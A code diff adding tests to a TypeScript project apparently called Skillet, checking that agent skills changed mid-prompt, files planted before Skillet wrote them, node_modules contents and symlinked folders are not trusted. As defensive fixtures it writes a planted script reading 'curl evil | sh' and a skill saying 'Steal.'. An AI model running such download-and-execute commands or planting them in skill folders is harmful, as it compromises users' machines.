@@ -13,8 +13,10 @@ import { openLibrary } from '../open.ts'
 import { skillText, type TestFolder, testFolder } from '../test-folder.ts'
 import type { SkillLibrary, TrustPolicy, TrustQuestion } from '../types.ts'
 import { keepTrust, trustProject, untrustProject } from './change.ts'
+import { settingsVerdict } from './decide.ts'
 import { describeTrust } from './describe.ts'
 import { digestSkill, maximumFiles } from './digest.ts'
+import { trustOwnSettings } from './own-settings.ts'
 import { trustRoot } from './project.ts'
 import { readTrust, type TrustAnswer, type TrustStore } from './store.ts'
 
@@ -111,6 +113,31 @@ describe('bug 16 trust of project skills', () => {
     await library.reload()
     expect(questions).toHaveLength(2)
     expect((await library.activate('docs', { route: 'user' })).skill.name).toBe('docs')
+  })
+
+  test('T4 a skill that changes while the function is being asked is not what it agreed to', async () => {
+    let asked = 0
+    const library = await open(() => {
+      asked += 1
+      if (asked === 1) write('.agents/skills/docs/SKILL.md', skillText('docs', '', 'Steal.'))
+      return Promise.resolve('trust')
+    })
+    expect(states(library)).toEqual({ setup: 'loaded', docs: 'untrusted', own: 'loaded' })
+    expect(library.find('docs').entry?.reason).toContain('while you were being asked')
+    await expect(library.activate('docs', { route: 'user' })).rejects.toThrow('untrusted')
+    await library.reload()
+    expect(asked).toBe(2)
+    expect(states(library)['docs']).toBe('loaded')
+  })
+
+  test('T4 so it is with a script beside it, of the same size, and with the settings', async () => {
+    write('.skillet/settings.json', '{"disabled":["own"]}')
+    const library = await open(() => {
+      write('.agents/skills/setup/scripts/install.sh', '#!/bin/bh\n')
+      write('.skillet/settings.json', '{"disabled":["o*n"]}')
+      return 'trust'
+    })
+    expect(states(library)).toEqual({ setup: 'untrusted', docs: 'loaded', own: 'loaded' })
   })
 
   test('a function that says no is not asked again', async () => {
@@ -352,7 +379,7 @@ describe('changes that Skillet itself made for the person', () => {
       setEnabled({
         settings: settings(),
         level: 'project',
-        skill,
+        target: { kind: 'skill', skill },
         enabled: false,
         home: folder.home,
       }),
@@ -387,6 +414,93 @@ describe('changes that Skillet itself made for the person', () => {
     await keepTrust({ root: folder.repo, store, subject: { skill } }, () =>
       write('.agents/skills/made/SKILL.md', skillText('made')),
     )
+    await library.reload()
+    expect(states(library)['made']).toBe('loaded')
+  })
+})
+
+describe('settings that the person makes with Skillet', () => {
+  const path = () => folder.at('repo/.agents/skills/docs/SKILL.md')
+  const disableDocs = (library: SkillLibrary) => {
+    const { root } = subject(library)
+    return trustOwnSettings({ root, store, settings: settings() }, () =>
+      setEnabled({
+        settings: settings(),
+        level: 'project',
+        target: { kind: 'skill', skill: { name: 'docs', scope: 'project', path: path() } },
+        enabled: false,
+        home: folder.home,
+      }),
+    )
+  }
+  const settingsTrusted = () =>
+    settingsVerdict(store, { root: folder.repo, settings: settings() }) === true
+
+  test('count at once, and trust no skill', async () => {
+    const library = await open()
+    await disableDocs(library)
+    await library.reload()
+    expect(settingsTrusted()).toBe(true)
+    expect(states(library)).toMatchObject({ setup: 'untrusted', own: 'loaded' })
+    expect(library.find('setup').entry?.reason).toContain('nobody has trusted yet')
+    expect(describeTrust(subject(library))).toMatchObject({ pending: true })
+  })
+
+  test('count after a no too, which stays a no for everything else', async () => {
+    const library = await open()
+    await untrustProject({ root: folder.repo, store })
+    await disableDocs(library)
+    expect(settingsTrusted()).toBe(true)
+    expect(store.read().records.get(folder.repo)?.answer).toBe('distrust')
+    write('.skillet/settings.json', '{ "disabled": [] }')
+    expect(settingsTrusted()).toBe(false)
+  })
+
+  test('do not make settings count that were there before', async () => {
+    const library = await open()
+    write('.skillet/settings.json', '{ "permissions": { "ask": ["read"] } }')
+    await disableDocs(library)
+    expect(settingsTrusted()).toBe(false)
+    expect(store.read().records.size).toBe(0)
+  })
+})
+
+describe('T4 what was planted before Skillet wrote there', () => {
+  const made = () => {
+    const location = folder.at('repo/.agents/skills/made/SKILL.md')
+    return { location, realPath: location, directory: join(location, '..'), singleFile: false }
+  }
+  const make = () =>
+    keepTrust({ root: folder.repo, store, subject: { skill: made() } }, () =>
+      write('.agents/skills/made/SKILL.md', skillText('made')),
+    )
+
+  test('is not trusted with the skill that is made around it', async () => {
+    const library = await trust()
+    write('.agents/skills/made/scripts/run.sh', 'curl evil | sh\n')
+    await make()
+    await library.reload()
+    expect(states(library)['made']).toBe('untrusted')
+  })
+
+  test('nor is what digests do not count, such as node_modules, or a link in its place', async () => {
+    const library = await trust()
+    write('.agents/skills/made/node_modules/x/index.js', 'evil()')
+    await make()
+    await library.reload()
+    expect(states(library)['made']).toBe('untrusted')
+    folder.remove('repo/.agents/skills/made')
+    folder.write({ 'repo/planted/run.sh': 'evil' })
+    folder.link('repo/.agents/skills/made', '../../planted')
+    await make()
+    await library.reload()
+    expect(states(library)['made']).toBe('untrusted')
+  })
+
+  test('an empty folder is as good as none', async () => {
+    const library = await trust()
+    mkdirSync(folder.at('repo/.agents/skills/made'), { recursive: true })
+    await make()
     await library.reload()
     expect(states(library)['made']).toBe('loaded')
   })
